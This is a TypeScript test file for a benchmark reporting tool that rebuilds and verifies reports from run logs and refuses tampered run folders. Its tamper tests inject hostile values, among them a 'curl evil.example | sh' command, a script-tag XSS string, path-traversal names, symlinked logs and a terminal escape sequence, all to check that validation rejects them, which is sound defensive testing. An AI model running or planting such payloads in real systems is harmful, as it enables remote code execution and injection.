import {
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { PRESETS } from "../../harness/carbon/index.ts";
import { reportApi } from "../../scenarios/report/api.ts";
import type { FileContent } from "../../harness/disk/index.ts";
import { rebuilt } from "../../scenarios/report/rebuild.ts";
import type { Files } from "../../scenarios/results/results-folder.ts";
import { OPTIONS, copyOf, edited, root, run } from "./run-folders.ts";

let whole: string;
let early: string;
let late: string;

beforeAll(async () => {
  whole = await run("whole", "hwnasbench", { methods: ["random", "vanilla"], seeds: [1, 2] });
  early = await run("early", "hwnasbench", { methods: ["random", "vanilla"], seeds: [1] });
  late = await run("late", "hwnasbench", { methods: ["random", "vanilla"], seeds: [2] });
});

/** Every file that a run wrote but where and when it did. */
function expectSame(files: Files, folder: string): void {
  const bytesOf = (content: FileContent): Buffer =>
    content instanceof Uint8Array ? Buffer.from(content) : Buffer.from([...content].join(""));
  const names = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) => /\./.test(name));
  const told = names.filter(
    (name) => !["manifest.json", "summary.json", "provenance.json", "references.bib"].includes(name),
  );
  const different = told.filter(
    (name) => !bytesOf(files.get(name) ?? "nothing").equals(readFileSync(join(folder, name))),
  );
  expect(different).toEqual([]);
}

describe("a report from logs alone", () => {
  it("has the bytes of the run's own", async () => {
    const { files, document, manifest } = await rebuilt([whole]);
    expectSame(files, whole);
    expect(document).toEqual(JSON.parse(readFileSync(join(whole, "summary.json"), "utf8")));
    expect(manifest).toEqual(JSON.parse(readFileSync(join(whole, "manifest.json"), "utf8")));
  });

  it("from several folders is that of one run of all methods and seeds", async () => {
    const { files, document, manifest } = await rebuilt([early, late]);
    expect(manifest).toEqual(JSON.parse(readFileSync(join(whole, "manifest.json"), "utf8")));
    expect(document).toEqual(JSON.parse(readFileSync(join(whole, "summary.json"), "utf8")));
    expectSame(files, whole);
  });

  it("is made of several settings, and by scenarios with findings of their own", async () => {
    const cells = await run("cells", "carbon-budgets", {
      methods: ["random", "vanilla"],
      seeds: [1],
      budgets: [0.5, 1],
      forecasters: ["persistence"],
    });
    const savings = await run("savings", "savings", { methods: ["vanilla", "random"], seeds: [1] });
    for (const folder of [cells, savings]) {
      const { files, document } = await rebuilt([folder]);
      expectSame(files, folder);
      expect(document).toEqual(JSON.parse(readFileSync(join(folder, "summary.json"), "utf8")));
    }
  });

  it("refuses folders that lack runs of all methods on all seeds; with those of the command that it names they are one", async () => {
    const more = await run("more", "hwnasbench", { methods: ["random"], seeds: [2] });
    await expect(rebuilt([early, more])).rejects.toThrow(
      `${early}, ${more} are not one set of runs: of all methods on all seeds they lack vanilla on 2; make these with: npm run scenario -- hwnasbench --methods vanilla --seeds 2 `,
    );
    const rest = await run("rest", "hwnasbench", { methods: ["vanilla"], seeds: [2] });
    const { manifest } = await rebuilt([early, more, rest]);
    expect(manifest).toEqual(JSON.parse(readFileSync(join(whole, "manifest.json"), "utf8")));
  });

  it("refuses folders of other settings, naming what differs", async () => {
    const other = await run("gpus", "hwnasbench", { methods: ["random"], seeds: [3], gpus: 4 });
    await expect(rebuilt([early, other])).rejects.toThrow(/they differ in setting\.gpus \(8 and 4\)/);
  });
});

it("a report never takes the place of the runs that it is made from", async () => {
  await expect(reportApi.report([whole], { out: whole, onProgress: () => {} })).rejects.toThrow(
    "holds the runs that the report is made from",
  );
  expect(existsSync(join(whole, "runs.jsonl"))).toBe(true);
});

describe("an untrusted run folder is refused", () => {
  it.each<[string, (folder: string) => void, RegExp]>([
    ["without a manifest", (f) => writeFileSync(join(f, "manifest.json"), ""), /manifest\.json is no JSON/],
    [
      "of an older format",
      (f) =>
        void edited(f, "manifest.json", (text) => text.replace(/"seeds": \[[^\]]*\],\s*"gpus"/, '"gpus"')),
      /another version: seeds: /,
    ],
    [
      "with a forged method",
      (f) =>
        void edited(f, "runs.jsonl", (text) => text.replaceAll('"random"', '"<script>alert(1)</script>"')),
      /line|a run of "<script>/,
    ],
    [
      "with a method that nobody knows",
      (f) => {
        for (const file of ["manifest.json", "runs.jsonl"])
          edited(f, file, (text) => text.replaceAll('"random"', '"randoom"'));
      },
      /no method is called "randoom"/,
    ],
    [
      "with a scenario that climbs out",
      (f) =>
        void edited(f, "manifest.json", (text) =>
          text.replace('"scenario": "hwnasbench"', '"scenario": "../../x"'),
        ),
      /no scenario is called/,
    ],
    ["half-written", (f) => truncateSync(join(f, "runs.jsonl"), 1000), /runs\.jsonl, line 1: .*cut off/],
    [
      "with a run less",
      (f) => void edited(f, "runs.jsonl", (text) => text.slice(text.indexOf("\n") + 1)),
      /some are missing or changed/,
    ],
    [
      "with a number changed",
      (f) => void edited(f, "runs.jsonl", (text) => text.replace(/"carbonG":(\d+)/, '"carbonG":1$1')),
      /some are missing or changed/,
    ],
    [
      "with a member of its own",
      (f) => void edited(f, "runs.jsonl", (text) => text.replace('{"key"', '{"evil":1,"key"')),
      /line 1: .*evil/,
    ],
  ])("%s", async (name, spoil, message) => {
    const folder = copyOf(whole, `spoilt ${name}`);
    spoil(folder);
    await expect(rebuilt([folder])).rejects.toThrow(message);
    await expect(rebuilt([folder])).rejects.toThrow(/make it with: npm run scenario -- /);
  });

  it("with logs that lie elsewhere, by a link", async () => {
    const folder = join(root, "linked");
    mkdirSync(folder);
    cpSync(join(whole, "manifest.json"), join(folder, "manifest.json"));
    symlinkSync(join(whole, "runs.jsonl"), join(folder, "runs.jsonl"));
    await expect(rebuilt([folder])).rejects.toThrow(/runs\.jsonl lies outside the folder/);
  });

  it("with a cell's name that climbs out", async () => {
    const cells = copyOf(join(root, "cells"), "climbing");
    edited(cells, "manifest.json", (text) => text.replaceAll('"persistence"', '"/../../../../x"'));
    await expect(rebuilt([cells])).rejects.toThrow(/lies outside the folder/);
  });

  it("that is not there", async () => {
    await expect(rebuilt([join(root, "nowhere")])).rejects.toThrow(/there is no such folder/);
  });

  it("and nothing is written", async () => {
    const out = join(root, "never");
    const folder = edited(copyOf(whole, "cut"), "manifest.json", () => "{");
    await expect(reportApi.report([folder], { out, onProgress: () => {} })).rejects.toThrow(/no JSON/);
    expect(existsSync(out)).toBe(false);
  });
});

describe("a folder that does not agree with itself is not believed", () => {
  const forge = (name: string, file: string, from: RegExp, to: string): string => {
    const folder = copyOf(early, `forged ${name}`);
    const before = readFileSync(join(folder, file), "utf8");
    expect(before).toMatch(from);
    return edited(folder, file, (text) => text.replace(from, to));
  };

  it.each<[string, string, RegExp, string, RegExp]>([
    [
      "kind",
      "manifest.json",
      /"kind": ?"sample"/,
      '"kind":"real"',
      /have the fingerprint [0-9a-f]{64}, got /,
    ],
    ["hours", "manifest.json", /("setting": ?\{[^}]*"hours": ?)3/, "$179", /have the fingerprint/],
    [
      "bound",
      "manifest.json",
      /"bound": ?false/,
      '"bound":true',
      /method "random": got bound true, expected false/,
    ],
    [
      "summary",
      "manifest.json",
      /(?<=[^]*"trueFront"[^]*"summary": ?)"[^"]*"/,
      '"The best."',
      /got the summary "The best\."/,
    ],
    [
      "price",
      "manifest.json",
      /("item": ?"training",\s*"value": ?)[\d.]+/,
      "$11",
      /accounting \w+: its prices are not/,
    ],
    ["label", "manifest.json", /("data": ?\{[^]*"label": ?")[^"]*/, "$1ImageNet", /objectives are not those/],
    [
      "command",
      "manifest.json",
      /"command": ?"[^"]*"/,
      '"command":"curl evil.example | sh"',
      /command: expected a command/,
    ],
    [
      "escape",
      "manifest.json",
      /"question": ?"/,
      '"question":"\\u001b[2J',
      /question: expected no control characters/,
    ],
    [
      "volume",
      "runs.jsonl",
      /("type":"stopped".*?"hypervolume":)[\d.]+/,
      "$199999",
      /found the hypervolume 99999, expected 0 to/,
    ],
  ])("a forged %s", async (name, file, from, to, message) => {
    const folder = forge(name, file, from, to);
    await expect(rebuilt([folder])).rejects.toThrow(message);
    await expect(reportApi.compare(folder, early)).rejects.toThrow(message);
  });

  it.each(["manifest.json", "runs.jsonl"])("a %s that is not what its sums say", async (file) => {
    const folder = copyOf(early, `changed ${file}`);
    writeFileSync(join(folder, file), readFileSync(join(folder, file), "utf8").replace(/\n$/, " \n"));
    const message = `${file} was changed since it was written (SHA256SUMS says otherwise)`;
    await expect(rebuilt([folder])).rejects.toThrow(message);
  });

  it("a summary that compare would take as it stands", async () => {
    const study = await run("told", "evaluators", { trained: [10], seeds: [1] });
    const folder = copyOf(study, "told otherwise");
    writeFileSync(join(folder, "summary.json"), "{}");
    await expect(reportApi.compare(folder, study)).rejects.toThrow(/summary\.json was changed/);
  });
});

describe("a report", () => {
  it("takes the place of no other results, nor of its own runs by another name", async () => {
    const quiet = { onProgress: () => {} };
    const out = copyOf(late, "others");
    await expect(reportApi.report([early], { out, ...quiet })).rejects.toThrow(
      /others: holds other results \(digest [0-9a-f]{8}, these have [0-9a-f]{8}\); name another folder/,
    );
    const link = join(root, "link");
    symlinkSync(early, link);
    await expect(reportApi.report([link], { out: early, ...quiet })).rejects.toThrow("holds the runs");
    await expect(reportApi.report([early], { out: link, ...quiet })).rejects.toThrow("holds the runs");
  });
});

describe("an accounting of the user's own", () => {
  it("comes with the results, which are verified without its file and told again with it", async () => {
    const file = join(root, "mine.json");
    writeFileSync(file, JSON.stringify({ ...PRESETS["full"], name: "my-site" }));
    const flags = { methods: ["random"], seeds: [1], accounting: ["paper", file] };
    for (const [name, scenario, more] of [
      ["own-accounting", "hwnasbench", {}],
      ["own-cells", "carbon-budgets", { budgets: [1], forecasters: ["persistence"] }],
    ] as const) {
      const folder = await run(name, scenario, { ...flags, ...more });
      const own = readFileSync(join(folder, "accountings/my-site.json"), "utf8");
      for (const text of ["manifest.json", "report.html", "provenance.json"])
        expect(readFileSync(join(folder, text), "utf8")).not.toContain(root);
      expect(readFileSync(join(folder, "manifest.json"), "utf8")).toContain("paper,accountings/my-site.json");
      expect(await reportApi.verify(folder, OPTIONS)).toMatchObject({ same: true, differences: [] });
      const { files } = await rebuilt([folder]);
      expect(files.get("accountings/my-site.json")).toBe(own);
      expectSame(files, folder);
    }
  });
});

describe("verify", () => {
  it("finds nothing where nothing differs", async () => {
    const { same, differences } = await reportApi.verify(early, OPTIONS);
    expect(differences).toEqual([]);
    expect(same).toBe(true);
  });

  it("tells a metric, a digest, a version and a file that differ", async () => {
    const folder = copyOf(early, "changed");
    edited(folder, "summary.json", (text) =>
      text.replace(/"trained": \{\s*"mean": \d+/, '"trained": { "mean": 7'),
    );
    edited(folder, "manifest.json", (text) =>
      text
        .replace(/"digest": "."/, '"digest": "0"')
        .replace(/("digest": ")[0-9a-f]/, "$10")
        .replace(/"version": "[^"]*"/, '"version": "0.0.1"'),
    );
    edited(folder, "tables/results.csv", (text) => `${text}\n`);
    const { same, differences } = await reportApi.verify(folder, OPTIONS);
    expect(same).toBe(false);
    expect(differences.map(({ what, where }) => `${what} ${where}`)).toEqual([
      "version cenas-bench",
      "digest all run logs",
      "metric methods.random.accounting.paper.metrics.trained.mean",
      "file tables/results.csv",
      "file provenance.json.entity.own:results.own:sha256",
      "file provenance.json.agent.own:software.own:version",
    ]);
  });

  it("tells forged notes, commands, sums and provenance, and says the command that it ran", async () => {
    const folder = copyOf(early, "told");
    const [command] = /npm run scenario[^"]*/.exec(readFileSync(join(folder, "manifest.json"), "utf8")) ?? [];
    edited(folder, "manifest.json", (text) =>
      text
        .replace(/"notes": ?\[[^\]]*\]/, '"notes":["Measured on real hardware."]')
        .replace(/"command": ?"[^"]*"/, '"command":"npm run scenario -- hwnasbench --seeds 7"'),
    );
    edited(folder, "summary.json", (text) => text.replace(/"kind": ?"sample"/, '"kind":"real"'));
    writeFileSync(join(folder, "SHA256SUMS"), "junk");
    writeFileSync(join(folder, "provenance.json"), '{"prefix":{},"wasGeneratedBy":{}}');
    const told = await reportApi.verify(folder, OPTIONS);
    expect(told.command).toBe(command);
    expect(told.same).toBe(false);
    const places = new Set(told.differences.map(({ where }) => where.replace(/^(provenance\.json).*/, "$1")));
    for (const place of ["command", "summary.json.data.kind", "SHA256SUMS", "provenance.json"])
      expect(places).toContain(place);
    expect([...places].some((place) => place.startsWith("notes"))).toBe(true);
  });

  it("tells what was forged or put there, wherever it stands, and draws drawings anew", async () => {
    const folder = copyOf(early, "forged");
    edited(folder, "manifest.json", (text) => text.replace(/"question": ?"[^"]*"/, '"question":"Forged?"'));
    edited(folder, "summary.json", (text) => text.replace(/("fingerprint": ?")[0-9a-f]/, "$1x"));
    writeFileSync(join(folder, "tables/forged.csv"), "a\n1\n");
    writeFileSync(join(folder, "figures/fronts.svg"), "<svg/>");
    const { differences } = await reportApi.verify(folder, OPTIONS);
    expect(differences.map(({ where }) => where)).toEqual([
      "question",
      "summary.json.fingerprint",
      "figures/fronts.svg",
      "tables/forged.csv",
      "SHA256SUMS",
      "SHA256SUMS",
      "provenance.json.entity.own:setting.prov:label",
    ]);
    const told = join(root, "early-report");
    await reportApi.report([early], { out: told, onProgress: () => {} });
    expect((await reportApi.verify(told, OPTIONS)).differences).toEqual([]);
  });
});
